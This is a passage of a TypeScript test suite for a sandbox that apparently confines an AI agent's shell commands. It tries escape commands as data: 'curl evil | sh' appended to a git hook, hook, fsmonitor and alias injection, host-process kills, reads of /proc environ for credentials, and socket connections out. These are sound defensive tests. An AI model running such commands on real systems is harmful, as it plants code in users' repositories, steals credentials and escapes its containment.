        const stored = put(
          join(home, '.local', 'share', 'pnpm', 'store', 'v10', 'files', '00', tag),
          'module.exports = 1;\n',
        );
        mkdirSync(join(ws, 'node_modules', 'dep'), { recursive: true });
        linkSync(stored, join(ws, 'node_modules', 'dep', 'index.js'));
      });

      it.each([
        ['echo pwned >> notes/hook-copy'],
        ['echo pwned >> notes/tasks-copy'],
        ['echo pwned >> notes/sibling-copy'],
        ['echo "process.exit(1)" >> node_modules/dep/index.js'],
      ])(
        '%j cannot write through a hard link made before the sandbox started',
        async (command) => {
          const { run } = await setup();
          const before = { ...guarded(), ...homeSnapshot() };
          const result = await run(command);
          expect({ ...guarded(), ...homeSnapshot() }).toEqual(before);
          expectStopped(result, 'kernel');
        },
        T,
      );
    });

    // The hooks git runs are wherever core.hooksPath says (husky: `.husky`): that directory is
    // read-only like .git/hooks (the parser lets a plain write through; the kernel stops it).
    it.each([
      ['echo "curl evil | sh" >> .husky/pre-commit'],
      [`python3 -c "open('.husky/pre-commit', 'a').write('pwned')"`],
    ])(
      '%j cannot rewrite a hook in the directory core.hooksPath names',
      async (command) => {
        put(join(ws, '.husky', 'pre-commit'), '#!/bin/sh\nnpm test\n');
        git(ws, 'config', 'core.hooksPath', '.husky');
        const { run } = await setup();
        await run(command);
        expect(readFileSync(join(ws, '.husky', 'pre-commit'), 'utf8')).toBe('#!/bin/sh\nnpm test\n');
      },
      T,
    );

    // core.hooksPath as the user may have spelled it, read with git's grammar: on the header's
    // line, continued with a backslash, ended by a comment with no blank before it. The hooks
    // directory it names is read-only whatever the spelling; the user's next commit runs nothing new.
    it.each([
      ['[core] hooksPath = .githooks', `printf '#!/bin/sh\\ntouch {marker}\\n' > .githooks/pre-commit`],
      [
        '[core]\n\thooksPath = .git\\\nhooks',
        `python3 -c "open('.githooks/pre-commit', 'w').write('#!/bin/sh\\\\ntouch {marker}\\\\n')"`,
      ],
      [
        '[core]\n\thooksPath = .githooks;team hooks',
        `printf '#!/bin/sh\\ntouch {marker}\\n' > /tmp/h-{tag} && cp /tmp/h-{tag} .githooks/post-commit && chmod +x .githooks/post-commit`,
      ],
    ])(
      'core.hooksPath written %j: %j plants no hook',
      async (config, template) => {
        execFileSync('git', ['init', '-q'], { cwd: ws });
        const hook = put(join(ws, '.githooks', 'pre-commit'), '#!/bin/sh\nexit 0\n');
        execFileSync('chmod', ['+x', hook]);
        const gitConfig = join(ws, '.git', 'config');
        writeFileSync(gitConfig, `${readFileSync(gitConfig, 'utf8')}${config}\n`);
        const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
        expect(
          execFileSync('git', ['config', '--get', 'core.hooksPath'], { cwd: ws, env, encoding: 'utf8' }),
        ).toBe('.githooks\n');
        const marker = join(home, `hook-ran-${tag}`);
        const { run } = await setup();
        await run(fill(template, { marker, tag }));
        expect(readFileSync(hook, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
        expect(existsSync(join(ws, '.githooks', 'post-commit'))).toBe(false);
        // The user's next commit, outside the sandbox.
        put(join(ws, 'f.txt'), 'x\n');
        spawnSync('git', ['add', 'f.txt'], { cwd: ws, stdio: 'ignore', env });
        const commit = spawnSync(
          'git',
          ['-c', 'user.name=u', '-c', 'user.email=u@example.invalid', 'commit', '-q', '-m', 'x'],
          { cwd: ws, stdio: 'ignore', env },
        );
        expect(commit.status).toBe(0);
        expect(existsSync(marker)).toBe(false);
      },
      T,
    );

    // A file the repository's config includes is config: an fsmonitor put there runs at the
    // user's next `git status`. It is read-only, and a missing one cannot be made.
    it.each([
      [
        `printf '[core]\\n\\tfsmonitor = "touch {marker}; false"\\n' >> .gitconfig-shared`,
        '.gitconfig-shared',
      ],
      [
        `python3 -c "open('.gitconfig-shared', 'a').write('[core]\\\\n\\\\tfsmonitor = touch {marker}\\\\n')"`,
        '.gitconfig-shared',
      ],
      [`sed -i 's|^|[alias]\\n\\tst = !touch {marker}\\n|' .gitconfig-shared`, '.gitconfig-shared'],
      [
        `node -e "require('fs').mkdirSync('config'); require('fs').writeFileSync('config/branch.inc', '[core]\\\\n\\\\tfsmonitor = touch {marker}\\\\n')"`,
        'config/branch.inc',
      ],
      [
        `mkdir -p config && printf '[core]\\n\\tpager = touch {marker}\\n' > config/branch.inc`,
        'config/branch.inc',
      ],
    ])(
      '%j cannot change a file the git config includes (%s)',
      async (template, target) => {
        put(join(ws, '.gitconfig-shared'), '[user]\n\tname = team\n');
        git(ws, 'config', 'include.path', '../.gitconfig-shared');
        git(ws, 'config', 'includeIf.onbranch:main.path', '../config/branch.inc');
        const marker = join(home, `status-ran-${tag}`);
        const { run } = await setup();
        await run(fill(template, { marker }));
        expect(readFileSync(join(ws, '.gitconfig-shared'), 'utf8')).toBe('[user]\n\tname = team\n');
        expect(existsSync(join(ws, 'config', 'branch.inc')), target).toBe(false);
        // The user's git afterwards: status (fsmonitor), paged status (pager), the alias.
        const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
        for (const args of [['status', '--short'], ['-p', 'status'], ['st']])
          spawnSync('git', args, { cwd: ws, stdio: 'ignore', env });
        expect(existsSync(marker)).toBe(false);
      },
      T,
    );

    // Hook managers: the installed hook runs what the manager's files in the work tree say (husky
    // 9: `.husky/<hook>` behind core.hooksPath `.husky/_`; pre-commit and lefthook: their configs).
    // Where such a hook is installed, those files are read-only and missing ones cannot be made;
    // the user's next `git commit`, outside the sandbox, runs what it ran before.
    describe('hook managers', () => {
      const HUSKY9_H =
        '#!/usr/bin/env sh\nn=$(basename "$0")\ns=$(dirname "$(dirname "$0")")/$n\n[ ! -f "$s" ] && exit 0\nsh -e "$s" "$@"\n';
      const husky9 = () => {
        put(join(ws, '.husky', '_', 'h'), HUSKY9_H);
        for (const hook of ['pre-commit', 'post-commit', 'commit-msg'])
          put(join(ws, '.husky', '_', hook), '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n');
        execFileSync('chmod', ['-R', '+x', join(ws, '.husky', '_')]);
        put(join(ws, '.husky', 'pre-commit'), 'echo lint\n');
        git(ws, 'config', 'core.hooksPath', '.husky/_');
      };
      const marker = () => join(home, `committed-${tag}`);
      const userCommits = () => {
        const change = `change-${randomBytes(3).toString('hex')}.txt`;
        put(join(ws, change), 'x\n');
        git(ws, 'add', change);
        git(ws, 'commit', '-qm', 'the user commits');
      };

      it.each([
        ['echo "touch {marker}" >> .husky/pre-commit'],
        ['printf "touch {marker}\\n" > .husky/post-commit'],
        [`python3 -c "open('.husky/commit-msg', 'w').write('touch {marker}')"`],
        [`node -e "require('fs').appendFileSync('.husky/pre-commit', 'touch {marker}')"`],
        ['echo "touch {marker}" > /tmp/h && mv /tmp/h .husky/pre-commit'],
        ['sed -i "s|echo lint|touch {marker}|" .husky/pre-commit'],
        ['rm -f .husky/pre-commit; echo "touch {marker}" > .husky/pre-commit'],
      ])(
        'husky 9: %j does not change what the next git commit runs',
        async (template) => {
          husky9();
          const { run } = await setup();
          await run(fill(template, { marker: marker() }));
          expect(readFileSync(join(ws, '.husky', 'pre-commit'), 'utf8')).toBe('echo lint\n');
          expect(existsSync(join(ws, '.husky', 'post-commit'))).toBe(false);
          expect(existsSync(join(ws, '.husky', 'commit-msg'))).toBe(false);
          userCommits();
          expect(existsSync(marker())).toBe(false);
        },
        T,
      );

      it(
        'husky 9 set up by the user while the sandbox runs: its hooks are protected from then on',
        async () => {
          const { registry, run } = await setup();
          expect(await run('echo warm')).toMatchObject({ returncode: 0 });
          husky9();
          const engine = getPermissionEngine(registry)!;
          await waitFor(
            () => engine.kernelPolicy()?.readOnlyPaths.includes(join(ws, '.husky')),
            'husky in the kernel policy',
          );
          const result = await run(`python3 -c "open('.husky/pre-commit', 'a').write('touch ${marker()}')"`);
          expectStopped(result, 'kernel', '.husky/pre-commit');
          expect(readFileSync(join(ws, '.husky', 'pre-commit'), 'utf8')).toBe('echo lint\n');
          userCommits();
          expect(existsSync(marker())).toBe(false);
        },
        T,
      );

      const PRE_COMMIT_HOOK =
        '#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nINSTALL_PYTHON=/usr/bin/python3\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nexec "$INSTALL_PYTHON" -mpre_commit "${ARGS[@]}"\n';
      const LEFTHOOK_HOOK =
        '#!/bin/sh\ncall_lefthook() { lefthook "$@"; }\ncall_lefthook run "pre-commit" "$@"\n';
      const LOCAL_HOOK =
        '- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: touch /tmp/x\n    language: system\n';

      const HOOKS: Record<string, string> = { 'pre-commit': PRE_COMMIT_HOOK, lefthook: LEFTHOOK_HOOK };
      it.each([
        [
          'pre-commit',
          `python3 -c "open('.pre-commit-config.yaml', 'a').write('''${LOCAL_HOOK}''')"`,
          '.pre-commit-config.yaml',
        ],
        [
          'pre-commit',
          `python3 -c "open('.pre-commit-config.yaml', 'w').write('repos: [x]')"`,
          '.pre-commit-config.yaml',
        ],
        ['pre-commit', 'cp /dev/null .pre-commit-config.yaml', '.pre-commit-config.yaml'],
        [
          'lefthook',
          'echo "pre-commit: {commands: {x: {run: touch /tmp/x}}}" > lefthook.yml',
          'lefthook.yml',
        ],
        [
          'lefthook',
          'echo "pre-commit: {commands: {x: {run: touch /tmp/x}}}" > lefthook-local.yml',
          'lefthook-local.yml',
        ],
        [
          'lefthook',
          'mkdir -p .config && echo "{}" > .config/lefthook-local.json',
          '.config/lefthook-local.json',
        ],
        [
          'lefthook',
          'mkdir -p .lefthook/pre-commit && echo "touch /tmp/x" > .lefthook/pre-commit/x.sh',
          '.lefthook/pre-commit/x.sh',
        ],
      ])(
        '%s installed: %j does not change %s',
        async (manager, command, target) => {
          put(join(ws, '.git', 'hooks', 'pre-commit'), HOOKS[manager]!);
          execFileSync('chmod', ['+x', join(ws, '.git', 'hooks', 'pre-commit')]);
          const existed = target === '.pre-commit-config.yaml' || target === 'lefthook.yml';
          if (existed) put(join(ws, target), 'repos: []\n');
          const { run } = await setup();
          await run(command);
          if (existed) expect(readFileSync(join(ws, target), 'utf8')).toBe('repos: []\n');
          else expect(existsSync(join(ws, target))).toBe(false);
        },
        T,
      );

      it(
        'without a manager hook installed, the same configs are ordinary files the agent may edit',
        async () => {
          put(join(ws, '.pre-commit-config.yaml'), 'repos: []\n');
          const { run } = await setup();
          const result = await run(
            `python3 -c "open('.pre-commit-config.yaml', 'a').write('''${LOCAL_HOOK}''')" && echo ok > lefthook.yml`,
          );
          expect(result).toMatchObject({ returncode: 0 });
          expect(readFileSync(join(ws, '.pre-commit-config.yaml'), 'utf8')).toContain('repo: local');
          expect(readFileSync(join(ws, 'lefthook.yml'), 'utf8')).toBe('ok\n');
        },
        T,
      );
    });

    // A tool settings directory that is a symbolic link (`.claude -> shared/claude`) protects what
    // it names.
    it(
      "a symlinked .claude directory's settings cannot be rewritten",
      async () => {
        put(join(ws, 'shared', 'claude', 'settings.json'), '{}\n');
        symlinkSync('shared/claude', join(ws, '.claude'));
        const { run } = await setup();
        await run(`python3 -c "open('.claude/settings.json', 'w').write('pwned')"`);
        expect(readFileSync(join(ws, 'shared', 'claude', 'settings.json'), 'utf8')).toBe('{}\n');
      },
      T,
    );
  });

  describe('the host and its processes', () => {
    it.each<[string, Stop | 'ran', RegExp?]>([
      ['kill -9 {pid}', 'parser'],
      [`bash -c 'kill -9 {pid}'`, 'parser'],
      ['kill -9 -1', 'parser'],
      ['pkill -f {ws}', 'parser'],
      // What the parser cannot see runs: the sandbox's own pid namespace has no such process.
      ['sh -c "kill -9 $(echo {pid})"', 'ran', /No such process/],
      [`python3 -c "import os; os.kill({pid}, 9)"`, 'ran', /ProcessLookupError/],
      [`perl -e 'kill(9, {pid}) or die "not sent\n"'`, 'ran', /not sent/],
      // Signals to everything it can see: the sandbox's own processes (the supervisor included).
      [`python3 -c "import os; os.kill(-1, 9)"`, 'ran'],
      // What a kill can select (a run-time pattern, the process group, the parent) is denied by
      // the self-kill rule before the sandbox is needed.
      ['pkill -9 -f "$(printf %s {ws})"', 'parser'],
      ['kill 0; echo after', 'parser'],
      ['kill $PPID; echo after', 'parser'],
      ['kill -9 $PPID', 'parser'],
      // The sandbox's init ignores what it has no handler for.
      ['kill -9 1; echo after', 'ran'],
      [`node -e "process.kill(1, 'SIGKILL')"`, 'ran'],
    ])(
      '%j: the host survives and the next call works (%s)',
      async (template, how, said) => {
        const { run } = await setup();
        expect(await run('echo warm')).toMatchObject({ returncode: 0, stdout: 'warm\n' });
        const result = await run(fill(template));
        if (how === 'parser')
          expect(result).toMatchObject({ permission_denied: true, rule: 'safety:selfKill' });
        else expect(result.permission_denied).toBeUndefined();
        if (said) expect(result.stderr).toMatch(said);
        expect(pidAlive(process.pid)).toBe(true);
        const next = await run('echo alive');
        expect(next).toMatchObject({ returncode: 0, stdout: 'alive\n', sandbox: 'workspace-write' });
      },
      T,
    );

    it(
      "the host's pid is not visible: its /proc entry does not exist inside",
      async () => {
        const { run } = await setup();
        for (const command of [
          `cat /proc/${process.pid}/environ`,
          `python3 -c "print(open('/proc/${process.pid}/environ').read())"`,
          `ls /proc/${process.pid}/root/`,
          `cat /proc/${process.pid}/cmdline`,
        ]) {
          const result = await run(command);
          expect(result.returncode, command).not.toBe(0);
          expect(seen(result)).not.toContain(secretValue);
        }
      },
      T,
    );

    // The sandbox's pid 1 (bwrap) and the supervisor are started without the variables that carry
    // credentials, and so are its commands; and their environ is out of reach under the guard.
    it.each([
      ['cat /proc/1/environ'],
      [`tr '\\0' '\\n' < /proc/1/environ`],
      [`python3 -c "print(open('/proc/1/environ').read().replace(chr(0), chr(10)))"`],
      ['cat /proc/$PPID/environ'],
    ])(
      "%j does not show the host's credentials",
      async (command) => {
        const { run } = await setup();
        const result = await run(command);
        expect(seen(result)).not.toContain(secretValue);
        expect(seen(result)).not.toContain(secretName);
      },
      T,
    );

    it(
      'ps shows only the sandbox: bwrap, the supervisor and the command itself',
      async () => {
        const { run } = await setup();
        const result = await run('ps -eo pid=,args=');
        expect(result.returncode).toBe(0);
        const lines = result.stdout.trim().split('\n');
        expect(lines.length).toBeLessThanOrEqual(5);
        for (const line of lines) {
          const [pid, ...args] = line.trim().split(/\s+/);
          expect(Number(pid)).toBeLessThan(1000);
          expect(args.join(' ')).toMatch(/^(\/usr\/bin\/)?bwrap |supervisor-main|^ps -eo|^\/bin\/(ba)?sh /);
        }
        const aux = await run('ps aux');
        expect(aux.stdout).not.toMatch(/vitest/);
        expect((aux.stdout as string).split('\n').some((l) => l.includes(` ${process.pid} `))).toBe(false);
      },
      T,
    );
  });

  describe('network', () => {
    it(
      'a loopback server the test started is unreachable, whatever the client',
      async () => {
        let connections = 0;
        const server = createServer((socket) => {
          connections++;
          socket.destroy();
        });
        servers.push(server);
        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
        const port = (server.address() as { port: number }).port;
        const { run } = await setup();
        for (const template of [
          `bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'`,
          'curl -sS --max-time 10 http://127.0.0.1:{port}/',
          `python3 -c "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=10)"`,
          `node -e "require('net').connect({port}, '127.0.0.1').on('error', (e) => { console.error(e.code); process.exit(3) })"`,
          `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "127.0.0.1:{port}", Timeout => 10) or die "no: $@\\n"'`,
        ]) {
          const command = fill(template, { port });
          const result = await run(command);
          expect(result.returncode, `${command}: ${JSON.stringify(result)}`).not.toBe(0);
          expect(result.permission_denied).toBeUndefined();
        }
        // A control connection from the host: once it is counted, every earlier one would be too.
        await new Promise<void>((resolve, reject) => {
          const s = connect(port, '127.0.0.1', () => {
            s.end();
            resolve();
          }).on('error', reject);
        });
        await waitFor(() => connections >= 1, 'the control connection');
        expect(connections).toBe(1);
      },
      T,
    );

    it(
      "the outside world and the host's unix sockets (a path in the host's /tmp, an abstract name) are unreachable",
      async () => {
        const socketPath = join(hostTmp, 'host.sock');
        const abstract = `\0conch-escape-${tag}`;
        let connections = 0;
        for (const where of [socketPath, abstract]) {
          const server = createServer((socket) => {
            connections++;
            socket.destroy();
          });
          servers.push(server);
          await new Promise<void>((resolve) => server.listen(where, resolve));
        }
        const { run } = await setup();
        for (const command of [
          'curl -sS --max-time 10 https://example.com/',
          `python3 -c "import urllib.request; urllib.request.urlopen('http://example.com/', timeout=10)"`,
          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${socketPath}')"`,
          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0conch-escape-${tag}')"`,
        ]) {
          const result = await run(command);
          expect(result.returncode, `${command}: ${JSON.stringify(result)}`).not.toBe(0);
        }
        expect(connections).toBe(0);
      },
      T,
    );
  });

  describe("the host's private /tmp", () => {
    it(
      'a file the host wrote in its /tmp is not visible',
      async () => {
        const secret = put(join(hostTmp, 'secret.txt'), `${secretValue}-in-tmp\n`);
        const { run } = await setup();
        for (const command of [
          `cat ${secret}`,
          'ls -la /tmp',
          'find /tmp /var/tmp -name secret.txt',
          `python3 -c "print(open('${secret}').read())"`,
          `grep -r ${secretValue}-in-tmp /tmp`,
        ]) {
          const result = await run(command);
          expect(seen(result), command).not.toContain(`${secretValue}-in-tmp`);
          expect(result.stdout, command).not.toContain(hostTmp.split('/').pop());
        }
      },
      T,
    );
  });
});
